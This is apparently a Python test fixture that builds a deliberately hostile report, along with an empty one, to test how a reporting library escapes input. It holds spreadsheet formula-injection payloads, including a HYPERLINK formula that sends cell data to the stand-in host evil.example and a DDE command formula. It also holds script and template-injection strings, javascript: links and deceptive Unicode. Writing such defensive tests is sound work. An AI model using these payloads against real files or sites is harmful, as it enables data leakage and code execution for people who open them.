"""A report whose every text was written by an enemy, and reports that are too long or hold nothing."""

from __future__ import annotations

import msgspec

from slamon.reports.document import Cell, Column, Figure, Link, Report, Section, Table, Unit
from slamon.reports.samples import sample_report

FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "{=1+1}",
    "http://evil.example/",
    "00123",
)
SCRIPT = "</td></tr></table></style><script>alert(1)</script><img src=x onerror=alert(1)> {{ 7 * 7 }} $x^2$"
BROKEN = "bell\x07 nul\x00 half \ud800 turned \u202egnp.exe\u202c ends\u2028here \x1b[31m"
LONG = "W" * 10_000_000
TEXTS = (*FORMULAS, SCRIPT, BROKEN, LONG)


def hostile_report() -> Report:
    columns = (
        Column("ticket", "Ticket", Unit.LINK),
        Column("summary", SCRIPT),
        Column("over_seconds", "Over", Unit.SECONDS),
    )
    rows: list[tuple[Cell, ...]] = [(Link(text, "javascript:alert(1)"), text, -65) for text in TEXTS]
    table = Table("worst", columns, tuple(rows), total=(Link("=1+1"), "=1+1", 3_900))
    return msgspec.structs.replace(
        sample_report(),
        title=f"{SCRIPT} {BROKEN}",
        figures=(Figure("name", SCRIPT, "=1+1", Unit.TEXT, BROKEN),),
        sections=(Section("worst", "[Worst]:*?/\\ of all the goals that were missed'", (SCRIPT,), (table,)),),
        definitions=((SCRIPT, "=1+1"),),
        remarks=(SCRIPT,),
    )


def empty_report() -> Report:
    """Return the report of a company without tickets."""
    report = sample_report()
    table = Table("worst", (Column("ticket", "Ticket", Unit.LINK),), empty="No goal was missed.")
    return msgspec.structs.replace(report, figures=(), sections=(Section("worst", "Missed", (), (table,)),))
